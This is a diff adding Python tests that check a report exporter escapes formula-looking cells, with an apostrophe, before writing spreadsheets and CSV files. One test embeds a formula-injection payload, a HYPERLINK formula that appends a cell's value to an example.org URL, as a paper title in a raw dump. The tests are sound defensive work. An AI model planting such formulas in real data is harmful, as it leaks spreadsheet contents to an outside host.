@@ -10,6 +10,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 from polars.testing import assert_frame_equal
 
+from pages import papers, spaced
+from workbench.corpus import Corpus
+from workbench.load import load
 from workbench.report.sheets import for_spreadsheet, write_sheets
 
 
@@ -56,6 +59,43 @@ def test_a_cell_that_would_run_gets_an_apostrophe(text: str, runs: bool) -> None
     frame = pl.DataFrame({"text": [text], "list": [[text]]})
     expected = f"'{text}" if runs else text
     assert for_spreadsheet(frame).row(0) == (expected, expected)
+
+
+def test_categories_are_texts_and_numbers_stay_numbers() -> None:
+    frame = pl.DataFrame(
+        {
+            "kind": ["=1", "b"],
+            "code": ["-1", "b"],
+            "change": [-1, 2],
+            "day": [date(2025, 3, 12)] * 2,
+        },
+        schema_overrides={"kind": pl.Categorical, "code": pl.Enum(["-1", "b"])},
+    )
+    safe = for_spreadsheet(frame)
+    assert safe.rows() == [
+        ("'=1", "'-1", -1, date(2025, 3, 12)),
+        ("b", "b", 2, date(2025, 3, 12)),
+    ]
+    assert safe.schema["change"] == pl.Int64
+
+
+def test_a_formula_in_a_dump_is_harmless_in_the_tables_of_a_report(tmp_path: Path) -> None:
+    raw, out = tmp_path / "raw", tmp_path / "out"
+    raw.mkdir()
+    out.mkdir()
+    formula = '=HYPERLINK("https://example.org/?"&A1, "Foam")'
+    listed = [(formula, papers(1)[0][1]), *papers(2, 3)]
+    (raw / "page.txt").write_text(spaced(listed), encoding="utf-8")
+    load(raw, tmp_path / "tables")
+    corpus = Corpus.open(tmp_path / "tables")
+    assert formula in corpus.papers["title"].to_list()
+    write_sheets({"listings": corpus.listings, "papers": corpus.papers}, out)
+    for name in ("listings", "papers"):
+        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
+            rows = list(csv.DictReader(file))
+        assert f"'{formula}" in [row["title"] for row in rows]
+        cells = [cell for row in rows for cell in row.values()]
+        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
 
 
 @given(texts=st.lists(st.text(max_size=8), max_size=8), name=st.text(min_size=1, max_size=5))
